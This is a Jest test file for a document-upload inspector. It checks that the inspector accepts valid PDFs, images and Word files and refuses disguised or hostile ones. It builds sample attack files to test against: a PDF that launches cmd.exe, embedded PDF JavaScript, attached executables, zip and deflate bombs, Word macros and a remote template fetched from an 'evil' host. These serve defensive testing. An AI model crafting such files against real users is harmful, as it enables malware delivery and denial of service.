import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { describe, expect, it } from '@jest/globals';
import { zipSync } from 'fflate';
import { deflateSync } from 'node:zlib';
import { inspectContent } from '../../../functions/documents/inspect/inspect-content';
import { docOf, docxOf, heicSample } from '../../support/sample-files';
import { pdfOf, pngOf } from '../../support/upload';

const utf8 = (text: string) => new TextEncoder().encode(text);
const pdf = pdfOf('x');
const changed = (from: string | RegExp, to: string) => Buffer.from(pdf.toString('latin1').replace(from, to), 'latin1');

const pdfWith = async (work: (paper: PDFDocument) => Promise<void> | void, useObjectStreams = false): Promise<Buffer> => {
  const paper = await PDFDocument.create();
  paper.addPage();
  await work(paper);
  return Buffer.from(await paper.save({ useObjectStreams }));
};
const withAction = (action: Record<string, unknown>, packed = false) => pdfWith((paper) => paper.catalog.set(PDFName.of('OpenAction'), paper.context.obj(action as never)), packed);

/** A picture header that claims 40,000 × 40,000. */
const hugePng = (): Buffer => {
  const png = pngOf();
  png.writeUInt32BE(40_000, 16);
  png.writeUInt32BE(40_000, 20);
  return png;
};
/** An object stream that unpacks a thousandfold, as a table of a PDF whose frame is whole. */
const packedPdf = (): Buffer => {
  const stream = deflateSync(Buffer.alloc(50 * 1024 * 1024));
  const head = `%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.byteLength} >>\nstream\n`;
  const tail = '\nendstream\nendobj\n';
  const rest = pdf.toString('latin1').slice(pdf.toString('latin1').indexOf('xref'));
  const xref = head.length + stream.byteLength + tail.length;
  return Buffer.concat([Buffer.from(head, 'latin1'), stream, Buffer.from(tail + rest.replace(/startxref\n\d+/, `startxref\n${xref}`), 'latin1')]);
};

describe('the type by content', () => {
  it.each<[string, () => Buffer | Promise<Buffer>, object]>([
    ['PDF', () => pdf, { contentType: 'application/pdf', pages: 1 }],
    ['PDF with object streams', () => pdfWith((paper) => void paper.addPage(), true), { contentType: 'application/pdf', pages: 2 }],
    ['PDF with a link', () => pdfWith((paper) => paper.getPage(0).node.set(PDFName.of('Annots'), paper.context.obj([{ Type: 'Annot', Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('https://example.cn') } }]))), { contentType: 'application/pdf' }],
    ['PNG', () => pngOf(), { contentType: 'image/png', pages: 1 }],
    ['HEIC', heicSample, { contentType: 'image/heic', pages: 1, preview: { contentType: 'image/jpeg' } }],
    ['docx', () => docxOf(['一', '二']), { contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', preview: { bytes: Buffer.from('一\n二') } }],
    ['doc', () => docOf(), { contentType: 'application/msword' }],
  ])('takes %s', async (_, make, expected) => {
    expect(await inspectContent(await make())).toMatchObject(expected);
  });

  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a text named .pdf', () => Buffer.from('这不是照片，只是改了名字的文本。'.repeat(10)), 'documents.typeRefused'],
    ['a program named .jpg', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]), 'documents.typeRefused'],
    ['a zip named .docx', () => Buffer.from(zipSync({ 'a.txt': utf8('a') })), 'documents.typeRefused'],
    ['an old Excel file named .doc', () => docOf({ names: ['Root Entry', 'Workbook'] }), 'documents.typeRefused'],
    ['a PDF cut off', () => pdf.subarray(0, 200), 'documents.unreadable'],
    ['a PDF with a wrong table', () => changed(/startxref\n\d+/, 'startxref\n7'), 'documents.unreadable'],
    ['a PDF without a catalogue', () => changed('/Type /Catalog', '/Type /Nothing'), 'documents.unreadable'],
    ['a PDF without pages', () => changed('/Kids [3 0 R] /Count 1', '/Kids [] /Count 0     '), 'documents.unreadable'],
    ['a locked PDF', () => changed('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'), 'documents.encrypted'],
    ['a PDF really encrypted', () => pdfWith((paper) => paper.encrypt({ userPassword: '1', ownerPassword: '2' })), 'documents.encrypted'],
    ['a PDF with a script', () => pdfWith((paper) => paper.addJavaScript('x', 'app.alert(1)')), 'documents.activeContent'],
    ['a PDF that runs something', () => withAction({ S: 'Launch', F: PDFString.of('cmd.exe') }), 'documents.activeContent'],
    ['a script hidden in packed objects', () => withAction({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }, true), 'documents.activeContent'],
    ['a PDF that carries a file', () => pdfWith((paper) => paper.attach(utf8('MZ'), 'a.exe')), 'documents.activeContent'],
    ['a PDF that unpacks without end', packedPdf, 'documents.unpacksTooLarge'],
    ['a picture cut off', () => pngOf().subarray(0, 60), 'documents.unreadable'],
    ['a photo cut off', () => Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), 'documents.unreadable'],
    ['a picture that claims a wall', hugePng, 'documents.unpacksTooLarge'],
    ['an iPhone picture cut off', () => heicSample().subarray(0, 500), 'documents.unreadable'],
    ['a Word document without its text', () => Buffer.from(zipSync({ '[Content_Types].xml': docxTypes() })), 'documents.unreadable'],
    ['a zip bomb named .docx', () => docxOf(['x'], { 'word/media/a.bin': new Uint8Array(12 * 1024 * 1024) }), 'documents.unpacksTooLarge'],
    ['a zip of endless files', () => Buffer.from(zipSync(Object.fromEntries(Array.from({ length: 3001 }, (_, index) => [`${index}`, new Uint8Array(0)])), { level: 0 })), 'documents.unpacksTooLarge'],
    ['a Word document with macros', () => docxOf(['x'], { 'word/vbaProject.bin': utf8('x') }), 'documents.activeContent'],
    ['a Word document that fetches its template', () => docxOf(['x'], { 'word/_rels/settings.xml.rels': utf8('<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>') }), 'documents.activeContent'],
    ['an old Word file with macros', () => docOf({ names: ['Root Entry', 'WordDocument', 'Macros'] }), 'documents.activeContent'],
    ['an old Word file with a password', () => docOf({ flags: 0x0100 }), 'documents.encrypted'],
    ['a docx with a password', () => docOf({ names: ['Root Entry', 'EncryptedPackage'] }), 'documents.encrypted'],
    ['an old Word file broken inside', () => docOf({ ident: 0 }), 'documents.unreadable'],
  ])('refuses %s', async (_, make, code) => {
    await expect(inspectContent(await make())).rejects.toMatchObject({ code, path: 'fileId', message: expect.stringMatching(/。$/) });
  });
});

const docxTypes = () => utf8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
